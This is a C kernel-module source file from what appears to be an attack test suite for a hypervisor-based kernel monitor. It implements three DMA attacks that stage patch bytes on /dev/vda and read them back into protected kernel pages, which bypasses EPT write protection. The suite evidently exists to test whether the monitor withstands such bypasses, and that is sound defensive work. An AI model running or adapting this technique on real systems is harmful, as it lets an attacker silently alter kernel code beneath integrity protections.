// SPDX-License-Identifier: GPL-2.0-or-later
/* A disk that reads to where a hook is: the VMM writes there, by a mapping that no EPT stands before. */

#include <linux/bvec.h>
#include <linux/fs.h>
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/uio.h>
#include <linux/vmalloc.h>

#include <shadowmon/layout.h>

#include "attack.h"

#define DISK "/dev/vda"

/* One page to or from the disk, by its device. */
static int transfer(struct file *disk, int direction, struct page *page, loff_t pos)
{
	struct bio_vec vec = {.bv_page = page, .bv_len = PAGE_SIZE};
	struct iov_iter iter;
	ssize_t done;

	iov_iter_bvec(&iter, direction, &vec, 1, PAGE_SIZE);
	done = direction == WRITE ? vfs_iter_write(disk, &iter, &pos, 0)
				  : vfs_iter_read(disk, &iter, &pos, 0);
	return done == PAGE_SIZE ? 0 : -EIO;
}

/* What the page is to be comes first on the disk, then what it is. */
static int prepare(struct file *disk, const struct patch *patch, u8 *buffer)
{
	int err;

	patch_copy(patch, buffer);
	err = transfer(disk, WRITE, virt_to_page(buffer), 0);
	memcpy(buffer, patch_page(patch), PAGE_SIZE);
	return err ?: transfer(disk, WRITE, virt_to_page(buffer), PAGE_SIZE);
}

/* Without a ping it stays as it is then. */
static enum outcome dma(const struct patch *patch, const struct ping *ping)
{
	u8 *buffer = (u8 *)__get_free_page(GFP_KERNEL);
	struct file *disk = filp_open(DISK, O_RDWR | O_DIRECT, 0);
	struct page *page = vmalloc_to_page(patch->at);
	enum outcome outcome = ATTACK_IMPOSSIBLE;

	if (!buffer || IS_ERR(disk) || !page)
		goto free;
	if (prepare(disk, patch, buffer) || transfer(disk, READ, page, 0))
		goto free;
	outcome = ATTACK_SUCCEEDED;
	if (!ping)
		goto free;
	attack_note("%u calls", ping_hold(ping));
	if (transfer(disk, READ, page, PAGE_SIZE))
		outcome = ATTACK_IMPOSSIBLE;
free:
	if (!IS_ERR(disk))
		filp_close(disk, NULL);
	free_page((unsigned long)buffer);
	return outcome;
}

static enum outcome dma_to(enum place place)
{
	struct patch patch;
	struct ping ping;

	if (ping_find(&ping))
		return ATTACK_IMPOSSIBLE;
	ping_silent(&ping, place, &patch);
	return dma(&patch, &ping);
}

static enum outcome dma_call_site(void)
{
	return dma_to(AT_CALL_SITE);
}

static enum outcome dma_stub(void)
{
	return dma_to(AT_STUB);
}

/* The last byte of the gate page, which nothing executes. */
static enum outcome dma_gate_left(void)
{
	struct patch patch = {.at = gate + SM_PAGE_SIZE - 1, .size = 1};

	patch.code[0] = ~*patch.at;
	return dma(&patch, NULL);
}

const struct attack dma_attacks[] = {{"dma-call-site", dma_call_site},
				     {"dma-stub", dma_stub},
				     {"dma-gate-left", dma_gate_left},
				     {}};
